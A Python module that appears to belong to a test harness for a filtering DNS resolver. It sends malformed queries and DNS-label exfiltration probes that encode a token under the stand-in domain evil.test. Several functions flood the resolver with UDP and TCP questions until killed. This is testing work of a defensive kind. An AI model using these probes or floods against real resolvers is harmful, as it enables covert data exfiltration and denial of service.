# SPDX-License-Identifier: GPL-2.0-or-later
"""Questions: to whom they go, what they carry, how many there are."""
import select
import socket
import struct
import time

import wire
from attempts import attempt, family, tcp


def udp_ask(server, msg, timeout=2.0, port=53, sport=0):
    s = socket.socket(family(server), socket.SOCK_DGRAM)
    s.settimeout(timeout)
    if sport:
        s.bind(("", sport))

    def go():
        s.connect((server, port))
        s.send(msg)
        return s.recv(65535)
    return attempt(go)


def tcp_ask(server, data, n=1, chunk=0, timeout=2.0, port=53):
    """data: framed messages; the n framed answers."""
    def go():
        s = tcp(server, port, timeout)
        for i in range(0, len(data), chunk or len(data)):
            s.sendall(data[i:i + (chunk or len(data))])
        out, buf = [], b""
        while len(out) < n:
            more = s.recv(65536)
            if not more:
                break
            buf += more
            while len(buf) >= 2 and len(buf) >= 2 + struct.unpack("!H", buf[:2])[0]:
                size = 2 + struct.unpack("!H", buf[:2])[0]
                out.append(buf[2:size])
                buf = buf[size:]
        return out
    return attempt(go)


def frame(m):
    return struct.pack("!H", len(m)) + m


def dns_reply(value, err, ms):
    if not value:
        return {"error": err, "ms": ms}
    try:
        p = wire.dns_parse(value)
        return {"rcode": p["rcode"], "addresses": wire.dns_addresses(value), "ede": wire.dns_ede(value),
                "answers": p["an"], "flags": p["flags"], "ms": ms, "size": len(value)}
    except (ValueError, struct.error, IndexError) as e:
        return {"error": "unreadable %s" % e, "ms": ms, "raw": value.hex()}


def dns(a):
    """One question; a["tcp"], a["chunk"] (bytes a segment), a["qtype"], a["case"] as it is, a["sport"] (UDP),
    a["port"]."""
    msg = wire.dns_query(a["name"], a.get("qtype", 1), edns=b"" if a.get("edns", 1) else None)
    port = a.get("port", 53)
    if a.get("tcp"):
        v, err, ms = tcp_ask(a["server"], frame(msg), 1, a.get("chunk", 0), port=port)
        return dns_reply(v[0] if v else None, err, ms)
    return dns_reply(*udp_ask(a["server"], msg, port=port, sport=a.get("sport", 0)))


def dns_gone(a):
    """Questions whose socket is closed before the answer: the kernel's error then quotes the answer."""
    for i in range(a["n"]):
        s = socket.socket(family(a["server"]), socket.SOCK_DGRAM)
        s.sendto(wire.dns_query("%s%d.evil.test" % (a["token"], i)), (a["server"], 53))
        time.sleep(i % 8 * 2e-5)  # before, while and after it is answered
        s.close()
    return {"sent": a["n"]}


def dns_pipeline(a):
    msgs = b"".join(frame(wire.dns_query(n, edns=b"")) for n in a["names"].split(","))
    v, err, ms = tcp_ask(a["server"], msgs, len(a["names"].split(",")), a.get("chunk", 0))
    return {"replies": [dns_reply(m, None, ms) for m in v or []], "error": err}


def malformed_queries(name, tok):
    q = wire.dns_query
    evil = wire.dns_name(tok + ".evil.test") + struct.pack("!2H", 1, 1)
    return {
        "qdcount 0": q(name, qdcount=0, trailing=tok.encode()),
        "qdcount 2": q(name, qdcount=2, trailing=evil),
        "qdcount 65535": q(name, qdcount=65535, trailing=evil),
        "trailing bytes": q(name, trailing=tok.encode()),
        "edns option": q(name, edns=struct.pack("!2H", 65001, len(tok)) + tok.encode()),
        "client subnet": q(name, edns=struct.pack("!2H", 8, len(tok)) + tok.encode()),
        "qr=1": q(name, flags=0x8180, trailing=tok.encode()),
        "opcode 5": q(name, flags=0x2900, trailing=tok.encode()),
        "opcode 15": q(name, flags=0x7900, trailing=tok.encode()),
        "class CH": q(name, qclass=3, trailing=tok.encode()),
        "class 0": q(name, qclass=0, trailing=tok.encode()),
        "two questions, counts lie": q(name, counts=(1, 0, 0), trailing=evil),
        "answer in query": q(name, counts=(1, 0, 0), trailing=b"\xc0\x0c" + struct.pack(
            "!HHIH", 16, 1, 0, len(tok) + 1) + bytes([len(tok)]) + tok.encode()),
        "short": q(name)[:11] + tok.encode()[:0],
        "name cut off": q(name)[:20],
        "pointer in question": q(name)[:12] + b"\xc0\x0c\0\1\0\1" + tok.encode(),
        "label of 64": q([b"a" * 63, tok.encode(), b"evil", b"test"])[:12] + b"\x40" + tok.encode() * 4,
        "z bits": q(name, flags=0x0170, trailing=tok.encode()),
    }


def dns_malformed(a):
    out = {}
    for what, msg in malformed_queries(a["name"], a["token"]).items():
        if a.get("tcp"):
            v, err, ms = tcp_ask(a["server"], frame(msg), 1, timeout=1.0)
            out[what] = dns_reply(v[0] if v else None, err, ms)
        else:
            out[what] = dns_reply(*udp_ask(a["server"], msg, 1.0))
    return out


def dns_labels(a):
    """Data in questions: one query each, as raw labels. a["base"]: an allowed name."""
    tok, base = a["token"].encode(), [l.encode() for l in a["base"].split(".")]
    cases = {
        "under a refused name": ([tok, b"evil", b"test"], 1),
        "under an allowed name": ([tok] + base, 1),
        "TXT": ([tok, b"evil", b"test"], 16), "NULL": ([tok, b"evil", b"test"], 10),
        "ANY": ([tok, b"evil", b"test"], 255), "type 65280": ([tok] + base, 65280),
        "255 bytes": ([tok.ljust(60, b"x")] + [b"y" * 63] * 2 + [b"z" * 55, b"evil", b"test"], 1),
        "dot inside a label": ([tok + b"." + base[0]] + base[1:], 1),
        "whole name in a label": ([tok, b".".join(base)], 1),
        "NUL inside a label": ([base[0] + b"\0" + tok] + base[1:], 1),
        "NUL at the end": (base[:-1] + [base[-1] + b"\0" + tok], 1),
        "bytes above 127": ([b"\xff\xfe" + tok] + base, 1),
        "the root": ([], 2), "one label": ([tok], 1),
        "upper case": ([tok.upper(), b"EVIL", b"Test"], 1),
    }
    out = {}
    for what, (labels, qtype) in cases.items():
        out[what] = dns_reply(*udp_ask(a["server"], wire.dns_query(labels, qtype, edns=b""), 1.0))
    return out


def questions(a):
    """Asks for refused names as fast as it can, each another one, until it is killed; READY at the start."""
    s = socket.socket(family(a["server"]), socket.SOCK_DGRAM)
    s.connect((a["server"], 53))
    s.setblocking(False)
    print("READY", flush=True)
    for n in range(1 << 40):
        name = b"q%d" % n
        attempt(lambda: s.send(struct.pack("!6H", n & 0xffff, 0x100, 1, 0, 0, 0) + bytes([len(name)]) + name +
                               b"\4evil\4test\0\0\1\0\1"))
        while n % 64 == 0 and attempt(lambda: s.recv(1000))[1] is None:
            pass


def tcp_questions(a):
    """Many connections to the resolver, each full of questions for allowed names, until it is killed. Reads the
    answers, or not (read=0). READY when all are there."""
    data = b"".join(frame(wire.dns_query(a["name"], qid=i)) for i in range(100)) * 10
    ep, left = select.epoll(), {}
    socks = {}
    for _ in range(a["connections"]):
        s = tcp(a["server"], 53, 5.0)
        s.setblocking(False)
        socks[s.fileno()], left[s.fileno()] = s, b""
        ep.register(s.fileno(), select.EPOLLOUT | (select.EPOLLIN if a.get("read", 1) else 0))
    print("READY", flush=True)
    while socks:
        for fd, ev in ep.poll():
            try:
                if ev & select.EPOLLIN and not socks[fd].recv(1 << 20):
                    raise OSError
                if ev & select.EPOLLOUT:
                    left[fd] = left[fd] or data
                    left[fd] = left[fd][socks[fd].send(left[fd]):]
            except BlockingIOError:
                pass
            except OSError:
                ep.unregister(fd)
                socks.pop(fd).close()
    return {}


def allowed_questions(a):
    """Questions by UDP for an allowed name as fast as it can, each another one where the name has a %d."""
    s = socket.socket(family(a["server"]), socket.SOCK_DGRAM)
    s.connect((a["server"], 53))
    s.setblocking(False)
    print("READY", flush=True)
    one = wire.dns_query(a["name"], qid=1, edns=b"") if "%d" not in a["name"] else None
    for n in range(1 << 40):
        attempt(lambda: s.send(one or wire.dns_query(a["name"] % n, qid=1, edns=b"")))
        if "a_second" in a:
            time.sleep(1 / a["a_second"])  # the rate that was asked for
        while n % 64 == 0 and attempt(lambda: s.recv(65536))[1] is None:
            pass


def beside(a):
    """How long a lookup takes, and how long from connecting to the first answer: milliseconds, sorted."""
    out = {"lookup": [], "connect": []}
    for _ in range(a.get("n", 100)):
        with socket.socket(family(a["server"]), socket.SOCK_DGRAM) as s:
            s.settimeout(5)
            start = time.monotonic()
            s.sendto(wire.dns_query(a["name"], edns=b""), (a["server"], 53))
            got = wire.dns_parse(s.recv(65536))
            out["lookup"].append((time.monotonic() - start) * 1000)
            assert got["rcode"] == 0, got
        start = time.monotonic()
        with tcp(a["to"], a["port"], 5.0) as s:
            s.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % a["name"].encode())
            assert s.recv(100).startswith(b"HTTP/1.1 200")
            out["connect"].append((time.monotonic() - start) * 1000)
        time.sleep(0.005)  # the measure is no flood
    return {k: [round(x, 2) for x in sorted(v)] for k, v in out.items()}
